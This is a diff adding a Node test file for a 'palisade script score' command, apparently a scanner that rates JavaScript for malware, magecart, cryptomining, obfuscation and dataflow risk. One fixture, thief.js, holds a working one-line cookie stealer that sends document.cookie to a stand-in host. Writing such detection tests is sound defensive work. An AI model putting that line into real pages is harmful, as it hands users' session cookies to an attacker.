@@ -1,0 +1,78 @@
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, describe, it } from 'node:test';
+
+const main = join(import.meta.dirname, 'main.ts');
+
+function palisade(...args: string[]) {
+  const { status, stdout, stderr } = spawnSync(
+    process.execPath,
+    [main, 'script', 'score', ...args],
+    {
+      encoding: 'utf8',
+    },
+  );
+  return { status, stdout, stderr };
+}
+
+describe('palisade script score', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'palisade-script-command-'));
+  after(() => rmSync(folder, { recursive: true }));
+  const write = (name: string, text: string): string => {
+    const file = join(folder, name);
+    writeFileSync(file, text);
+    return file;
+  };
+  const thief = write('thief.js', `new Image().src = '//x.test/?' + document.cookie;`);
+  const clean = write('clean.js', 'document.title = "hello";');
+  const page = write('page.html', '<html></html>');
+  const large = write('large.js', 'a();'.repeat(100_000));
+
+  it('prints six scores for each file and the reasons, and exits with 1', () => {
+    const { status, stdout } = palisade(thief, clean);
+    assert.match(
+      stdout,
+      /^FILE +INTEGRITY +MAGECART +MALWARE +CRYPTOMINING +OBFUSCATION +DATAFLOW/,
+    );
+    assert.match(stdout, /thief\.js +\d +99 +\d+ +99 +99 +\d+ +malicious\n/);
+    assert.match(stdout, /clean\.js +99 +99 +99 +99 +99 +99\n/);
+    assert.match(stdout, /1:1 +90 {2}malware\/all-cookies-sent-unanswered +Sends all cookies/);
+    assert.equal(status, 1);
+  });
+
+  it('prints JSON lines with the names of the API', () => {
+    const { status, stdout } = palisade('--json', clean);
+    assert.deepEqual(JSON.parse(stdout), {
+      file: clean,
+      js_integrity_score: 99,
+      magecart_score: 99,
+      malware_score: 99,
+      cryptomining_score: 99,
+      obfuscation_score: 99,
+      dataflow_score: 99,
+      malicious: false,
+      reasons: [],
+    });
+    assert.equal(status, 0);
+  });
+
+  it('says why a file gets no scores, and exits with 2', () => {
+    const { status, stdout } = palisade(page, large);
+    assert.match(stdout, /page\.html +- +- +- +- +- +-\n/);
+    assert.match(stdout, /page\.html: not-javascript: Unexpected token \(1:0\)/);
+    assert.match(stdout, /large\.js: too-large: 400,000 bytes/);
+    assert.equal(status, 2);
+    const answer = JSON.parse(palisade('--json', large).stdout);
+    assert.equal(answer.js_integrity_score, null);
+    assert.equal(answer.not_scored, 'too-large');
+  });
+
+  it('names files that cannot be read', () => {
+    const { status, stderr } = palisade(clean, join(folder, 'missing.js'));
+    assert.match(stderr, /missing\.js: /);
+    assert.equal(status, 2);
+  });
+});
